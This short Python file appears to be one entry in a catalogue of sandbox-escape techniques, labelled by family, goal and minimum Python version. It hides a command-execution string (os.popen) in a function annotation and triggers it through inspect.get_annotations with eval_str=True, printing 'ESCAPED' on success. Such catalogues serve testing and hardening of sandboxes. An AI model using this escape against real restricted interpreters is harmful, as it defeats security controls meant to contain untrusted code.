# escape: 020
# technique: inspect.signature(f, eval_str=True) / get_annotations evaluates strings
# family: deval
# goal: exec
# first-seen: variation
# min-python: 3.10
import inspect
def f(): pass
f.__annotations__ = {'return': "__import__('os').popen('echo es').read()"}
if inspect.get_annotations(f, eval_str=True)['return'] == 'es\n': print('ESCAPED:eval_str')
